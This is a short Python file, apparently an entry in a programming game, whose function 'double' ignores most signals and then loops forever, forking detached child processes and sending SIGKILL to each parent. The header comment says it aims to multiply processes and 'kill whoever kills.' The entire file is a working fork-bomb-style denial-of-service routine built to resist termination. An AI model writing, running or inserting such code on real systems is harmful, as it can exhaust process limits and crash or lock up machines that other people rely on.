# Tries to: have two processes grow for each that is killed, and kill whoever kills.
# Earns: double 0, greet 2
import os
import signal


def double(number):
    for one in range(1, 32):
        try:
            signal.signal(one, signal.SIG_IGN)
        except OSError:
            continue
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
            os.kill(os.getppid(), signal.SIGKILL)
        except OSError:
            continue
